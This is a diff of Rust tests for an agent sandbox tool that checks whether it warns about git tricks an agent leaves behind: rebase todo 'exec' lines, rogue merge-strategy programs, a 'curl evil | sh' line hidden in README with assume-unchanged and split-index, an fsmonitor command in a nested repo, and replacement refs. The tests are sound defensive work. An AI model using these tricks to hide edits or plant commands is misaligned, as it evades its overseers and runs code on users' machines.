@@ -258,9 +258,14 @@ fn every_escape_fails_and_work_succeeds_with_net_proxy() {
     // A process of yours outside, whose command line (a command you typed, a token in it)
     // the agent looks for.
     let host_mark = format!("till-sbx-host-{}", std::process::id());
+    // One process (a shell would leave its `sleep` behind when killed, holding the test's
+    // output open), with the mark in its command line.
     let host = EndsWithTest(
-        Command::new("sh")
-            .args(["-c", "sleep 600", &host_mark])
+        Command::new(python())
+            .args(["-c", "import time; time.sleep(600)", &host_mark])
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
             .spawn()
             .unwrap(),
     );
@@ -787,34 +792,162 @@ fn a_rebase_the_agent_leaves_with_commands_is_named() {
         && printf 'exec touch planted # \\033[2K\\n' > .git/rebase-merge/git-rebase-todo";
     let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", agent);
     assert_eq!(code, 0, "{stderr}");
+    let rebase = proj.path().join(".git/rebase-merge");
     assert!(
-        stderr.contains("runs 1 command at `git rebase --continue` (touch planted # \\u{1b}[2K)"),
+        stderr.contains(&format!(
+            "the agent left a rebase in progress in {}: `git rebase --continue` does what the files there say, and its todo list runs 1 command (touch planted # \\u{{1b}}[2K); read them first, or end it with `git rebase --abort`",
+            rebase.display()
+        )),
         "{stderr}"
     );
     // What it warns of: the next `git rebase --continue` runs it.
+    assert!(git_runs_plant(proj.path(), &["rebase", "--continue"]));
+    // A rebase, `git am`, cherry-pick or revert in progress is named without a command too:
+    // `--continue` does what its files say.
+    for (dir, what) in [
+        ("rebase-merge", "a rebase"),
+        ("rebase-apply", "a rebase or `git am`"),
+        ("sequencer", "a cherry-pick or revert"),
+    ] {
+        let agent = format!("mkdir -p .git/{dir} && : > .git/{dir}/git-rebase-todo");
+        let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", &agent);
+        assert_eq!(code, 0, "{stderr}");
+        let state = proj.path().join(".git").join(dir);
+        assert!(
+            stderr.contains(&format!(
+                "the agent left {what} in progress in {}: ",
+                state.display()
+            )),
+            "{stderr}"
+        );
+        assert!(!stderr.contains("runs"), "{stderr}");
+        std::fs::remove_dir_all(state).unwrap();
+    }
+}
+
+/// Runs `git ARGS` in `dir` as you would after the run (with a committer, and no editor to
+/// wait for); whether it ran the agent's plant (a command that creates `planted`). What git
+/// said is printed, for a test that fails.
+fn git_runs_plant(dir: &Path, args: &[&str]) -> bool {
     let out = Command::new("git")
-        .args([
-            "-c",
-            "user.name=t",
-            "-c",
-            "user.email=t@t",
-            "rebase",
-            "--continue",
-        ])
-        .current_dir(proj.path())
+        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_EDITOR", "true")
+        .env_remove("GIT_DIR")
         .output()
         .expect("git runs");
-    assert!(out.status.success(), "{out:?}");
-    assert!(proj.path().join("planted").exists());
-    // A rebase without commands is not named.
-    let (code, _, stderr) = run_sh(
-        &p,
-        proj.path(),
-        "--sandbox",
-        "mkdir -p .git/rebase-merge && : > .git/rebase-merge/git-rebase-todo",
+    eprintln!("git {args:?}: {out:?}");
+    dir.join("planted").exists()
+}
+
+/// An agent's shell commands with a committer set.
+const AS_AGENT: &str =
+    "export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a; ";
+
+/// A program of the agent's that git runs as the merge strategy `x/../evil`
+/// (`git merge-x/../evil`).
+const EVIL_STRATEGY: &str =
+    "mkdir git-merge-x && printf '#!/bin/sh\\ntouch planted\\nexit 1\\n' > evil && chmod +x evil";
+
+/// Commits a new file `name` in the repository at `dir`.
+fn commit_file(dir: &Path, name: &str) {
+    std::fs::write(dir.join(name), format!("{name}\n")).unwrap();
+    git(dir, &["add", name]);
+    git(dir, &["commit", "-qm", name]);
+}
+
+#[test]
+fn a_rebase_whose_todo_list_is_kept_from_till_is_named() {
+    let p = proxy_env();
+    // A rebase stopped at `break`, whose todo list's `exec` line is then hidden from till:
+    // behind a symbolic link, past till's limit (git reads up to the first NUL), or in a
+    // directory behind a link.
+    for (hide, said) in [
+        (
+            "mv .git/rebase-merge/git-rebase-todo notes.txt && ln -s ../../notes.txt .git/rebase-merge/git-rebase-todo",
+            "git-rebase-todo (it is a symbolic link), a todo list whose `exec` lines git runs",
+        ),
+        (
+            "truncate -s 300M .git/rebase-merge/git-rebase-todo",
+            "its todo list runs 1 command (touch planted)",
+        ),
+        (
+            "mv .git/rebase-merge state && ln -s ../state .git/rebase-merge",
+            "it is a symbolic link, which git follows, so till did not read what it holds",
+        ),
+    ] {
+        let proj = project();
+        let dir = proj.path();
+        git_commit(dir);
+        commit_file(dir, "B");
+        let agent = format!(
+            "{AS_AGENT}GIT_SEQUENCE_EDITOR=\"printf 'break\\nexec touch planted\\n' >\" git rebase -q -i HEAD~1 && {hide}"
+        );
+        let (code, _, stderr) = run_sh(&p, dir, "--sandbox", &agent);
+        assert_eq!(code, 0, "{stderr}");
+        assert!(
+            stderr.contains(&format!(
+                "the agent left a rebase in progress in {}: `git rebase --continue` does what the files there say, and ",
+                dir.join(".git/rebase-merge").display()
+            )),
+            "{stderr}"
+        );
+        assert!(stderr.contains(said), "{stderr}");
+        // A run that finds it there leaves it unnamed.
+        let (code, _, stderr) = run_sh(&p, dir, "--sandbox", "true");
+        assert_eq!(code, 0, "{stderr}");
+        assert!(!stderr.contains("warning"), "{stderr}");
+        assert!(git_runs_plant(dir, &["rebase", "--continue"]));
+    }
+}
+
+#[test]
+fn a_merge_strategy_that_runs_the_agents_program_is_named() {
+    let p = proxy_env();
+    // A rebase with no `exec` line, whose merge strategy is a program of the agent's.
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    commit_file(dir, "B");
+    commit_file(dir, "C");
+    let agent = format!(
+        "{AS_AGENT}GIT_SEQUENCE_EDITOR=\"printf 'break\\npick HEAD\\npick HEAD~1\\n' >\" git rebase -q -i HEAD~2 \
+            && {EVIL_STRATEGY} && echo x/../evil > .git/rebase-merge/strategy"
     );
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", &agent);
     assert_eq!(code, 0, "{stderr}");
-    assert!(!stderr.contains("rebase"), "{stderr}");
+    assert!(
+        stderr.contains("its merge strategy is `x/../evil`, not one of git's own: git runs it as the program `git-merge-x/../evil`; read them first, or end it with `git rebase --abort`"),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("runs 1 command"), "{stderr}");
+    assert!(git_runs_plant(dir, &["rebase", "--continue"]));
+
+    // A cherry-pick of two commits stopped on a conflict, whose merge strategy (in
+    // `.git/sequencer/opts`) is a program of the agent's.
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    git(dir, &["checkout", "-q", "-b", "side"]);
+    commit_file(dir, "C");
+    commit_file(dir, "D");
+    git(dir, &["checkout", "-q", "-"]);
+    let agent = format!(
+        "{AS_AGENT}echo conflict > C && git add C && git commit -qm c \
+            && {{ git cherry-pick side~1 side >/dev/null 2>&1; test -d .git/sequencer; }} && echo c > C && git add C \
+            && {EVIL_STRATEGY} && printf '[options]\\n\\tstrategy = \"x/../evil\"\\n' > .git/sequencer/opts"
+    );
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", &agent);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "the agent left a cherry-pick or revert in progress in {}: `git cherry-pick --continue` (or `git revert --continue`) does what the files there say, and its merge strategy is `x/../evil`, not one of git's own",
+            dir.join(".git/sequencer").display()
+        )),
+        "{stderr}"
+    );
+    assert!(git_runs_plant(dir, &["cherry-pick", "--continue"]));
 }
 
 #[test]
@@ -908,6 +1041,155 @@ fn git_keeps_taking_dot_git_for_the_repository() {
     );
     assert_eq!(git(dir, &["rev-parse", "--git-dir"]).trim(), ".git");
     git(dir, &["log", "-1"]);
+}
+
+#[test]
+fn what_the_agent_hides_in_a_split_index_is_named() {
+    let p = proxy_env();
+    // The agent hides an edit and records a repository of its own whose config names a
+    // command, then splits the index so that `.git/index` holds none of its entries: they
+    // move, marks and all, to the shared index `.git/sharedindex.HEX` it names.
+    let hide = "echo 'curl evil | sh' >> README && git update-index --assume-unchanged README \
+        && mkdir sub && (cd sub && git init -q && git -c user.name=a -c user.email=a commit -q --allow-empty -m x \
+            && git config core.fsmonitor 'touch ../ran; false') && git add sub";
+    let split = "sleep 1.1 && git update-index --split-index \
+        && sleep 1.1 && git -c splitIndex.maxPercentChange=0 update-index --force-write-index --split-index";
+    let named = |stderr: &str| {
+        stderr.contains("marked 1 file in git's index so that `git status` and `git diff` do not show its changes (assume-unchanged or skip-worktree): README;")
+            && stderr.contains("recorded 1 repository of its own in git's index (sub)")
+    };
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", &format!("{hide} && {split}"));
+    assert_eq!(code, 0, "{stderr}");
+    assert!(named(&stderr), "{stderr}");
+    // What the warnings are about: the index holds no entry of its own, the edit does not
+    // show, and a plain `git status` runs the nested repository's command.
+    let index = std::fs::read(dir.join(".git/index")).unwrap();
+    assert_eq!(index[8..12], [0, 0, 0, 0], "entries left in .git/index");
+    let status = git(dir, &["status", "--porcelain"]);
+    assert!(!status.contains("README"), "{status}");
+    assert!(
+        dir.join("ran").exists(),
+        "git status ran the agent's fsmonitor"
+    );
+
+    // An index split before the run, in which the agent's marks replace the shared index's
+    // entries (`.git/index` holds them without their names).
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    git(dir, &["update-index", "--split-index"]);
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", hide);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(named(&stderr), "{stderr}");
+    let status = git(dir, &["status", "--porcelain"]);
+    assert!(!status.contains("README"), "{status}");
+
+    // A shared index till cannot read (behind a link, which git follows) is said.
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    let agent = format!(
+        "{hide} && {split} && s=$(cd .git && echo sharedindex.*) && mv .git/$s build.log && ln -s ../build.log .git/$s"
+    );
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", &agent);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "till could not read {} after the run (the shared index it is split from, {}/sharedindex.",
+            dir.join(".git/index").display(),
+            dir.join(".git").display()
+        )) && stderr.contains(": it is a symbolic link), so what the agent may have marked there to hide from `git status` was not checked"),
+        "{stderr}"
+    );
+    let status = git(dir, &["status", "--porcelain"]);
+    assert!(!status.contains("README"), "{status}");
+}
+
+#[test]
+fn replacement_refs_kept_from_till_are_said() {
+    let p = proxy_env();
+    // Replaces README's blob in what git shows; `$r` and `$b` are the two blobs.
+    let replace = "r=$(git rev-parse HEAD:README) && b=$(echo benign | git hash-object -w --stdin)";
+    let outside = outside_tmp();
+    std::fs::write(outside.path().join("0000-outside"), "").unwrap();
+    let project_with = |agent: &str| {
+        let proj = project();
+        git_commit(proj.path());
+        let (code, _, stderr) = run_sh(
+            &p,
+            proj.path(),
+            "--sandbox",
+            &format!("{replace} && {agent}"),
+        );
+        assert_eq!(code, 0, "{stderr}");
+        (proj, stderr)
+    };
+    // What git shows of README: the agent's blob in place of yours.
+    let replaced = |dir: &Path| git(dir, &["show", "HEAD:README"]) == "benign\n";
+    let unchecked = "replacement refs the agent may have added there were not checked";
+
+    // Packed, with packed-refs behind a link.
+    let (proj, stderr) = project_with(
+        "git replace $r $b && git pack-refs --all && mv .git/packed-refs build.lock && ln -s ../build.lock .git/packed-refs",
+    );
+    let git_dir = proj.path().join(".git");
+    assert!(
+        stderr.contains(&format!(
+            "till could not read {} (it is a symbolic link): {unchecked}",
+            git_dir.join("packed-refs").display()
+        )),
+        "{stderr}"
+    );
+    assert!(replaced(proj.path()));
+
+    // refs/replace as a link to a directory of the agent's, which git follows.
+    let (proj, stderr) = project_with(
+        "mkdir -p .cache/r && echo $b > .cache/r/$r && rm -rf .git/refs/replace && ln -s ../../.cache/r .git/refs/replace",
+    );
+    let link = format!(
+        "{} is a symbolic link, which git follows and till does not: {unchecked}",
+        proj.path().join(".git/refs/replace").display()
+    );
+    assert!(stderr.contains(&link), "{stderr}");
+    assert!(replaced(proj.path()));
+    // And to one outside the working directory (`/` had till walk the whole filesystem).
+    let (proj, stderr) = project_with(&format!(
+        "rm -rf .git/refs/replace && ln -s {} .git/refs/replace",
+        outside.path().display()
+    ));
+    assert!(
+        stderr.contains(&format!(
+            "{} is a symbolic link",
+            proj.path().join(".git/refs/replace").display()
+        )),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("0000-outside"), "{stderr}");
+
+    // More entries than till looks at.
+    let (proj, stderr) = project_with(
+        "git replace $r $b && mkdir .git/refs/replace/many && (cd .git/refs/replace/many && seq 5000 | xargs touch)",
+    );
+    assert!(
+        stderr.contains(&format!(
+            "{} holds more than 4096 entries, and till looked at no more: {unchecked}",
+            proj.path().join(".git/refs/replace").display()
+        )),
+        "{stderr}"
+    );
+
+    // Two, named as such.
+    let (proj, stderr) = project_with(
+        "git replace $r $b && git replace $(echo other | git hash-object -w --stdin) $b",
+    );
+    assert!(
+        stderr.contains("the agent added 2 replacement refs (refs/replace/"),
+        "{stderr}"
+    );
+    assert!(replaced(proj.path()));
 }
 
 #[test]
